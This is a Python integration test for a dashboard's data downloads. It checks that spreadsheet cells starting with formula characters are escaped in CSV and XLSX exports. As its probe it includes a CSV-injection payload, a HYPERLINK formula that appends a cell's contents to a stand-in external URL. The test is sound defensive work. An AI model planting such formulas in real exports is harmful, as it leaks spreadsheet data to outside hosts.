"""Downloads open in Excel as text, never as formulas: an area name or unit from a delivered file that starts like
a formula (``= + - @``) is prefixed with ``'`` in the CSV and in the XLSX (issue 10's probe)."""

from __future__ import annotations

import base64
import io
import json
from pathlib import Path

import openpyxl
import pandas as pd

from callbacks import dashboard
from layouts import ids
from sozialmonitor.service import Service
from sozialmonitor.store import Store
from tests.integration.conftest import CliRunner

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A2,"Klick")'


def _square(x: float) -> dict[str, object]:
    return {"type": "Polygon", "coordinates": [[[x, 52.0], [x + 0.01, 52.0], [x + 0.01, 52.01], [x, 52.01],
                                                [x, 52.0]]]}


def _load(cli: CliRunner, tmp_path: Path) -> None:
    areas = tmp_path / "synthetic_hostile_areas.geojson"
    areas.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"id": "A", "name": HOSTILE}, "geometry": _square(13.0)},
        {"type": "Feature", "properties": {"id": "B", "name": "+Nord"}, "geometry": _square(13.02)},
    ]}), encoding="utf-8")
    catalogue = tmp_path / "synthetic_hostile_catalogue.csv"
    catalogue.write_text("id;name_de;name_en;topic;unit;polarity;aggregation;source;licence\n"
                         "wert;Wert;Value;Test;=1+1;neutral;sum;Synthetische Testdaten;keine\n", encoding="utf-8")
    values = tmp_path / "synthetic_hostile_values.csv"
    values.write_text("area_id,indicator_id,period,value\nA,wert,2024,5\nB,wert,2024,7\n", encoding="utf-8")
    assert cli("import-catalogue", catalogue).code == 0
    assert cli("import-areas", areas, "--frame", "probe", "--level", "gebiet", "--id-col", "id",
               "--name-col", "name").code == 0
    result = cli("import-indicators", values, "--frame", "probe", "--level", "gebiet")
    assert result.code == 0, result.err


def _content(answer: dict[str, object]) -> bytes:
    file = answer["file"]
    assert isinstance(file, dict)
    return base64.b64decode(file["content"]) if file.get("base64") else str(file["content"]).encode("utf-8")


def test_downloads_never_carry_a_formula(cli: CliRunner, store: Store, tmp_path: Path) -> None:
    _load(cli, tmp_path)
    service = Service(store)
    query = "frame=probe&level=gebiet&ind=wert&period=2024"
    csv = pd.read_csv(io.BytesIO(_content(dashboard.download(service, ids.DOWNLOAD_CSV, query))), dtype=str)
    assert sorted(csv["name"]) == sorted(["'" + HOSTILE, "'+Nord"])
    assert set(csv["unit"]) == {"'=1+1"}
    book = openpyxl.load_workbook(io.BytesIO(_content(dashboard.download(service, ids.DOWNLOAD_XLSX, query))))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere in the workbook
    assert {c.value for c in cells} >= {"'" + HOSTILE, "'+Nord", "'=1+1"}
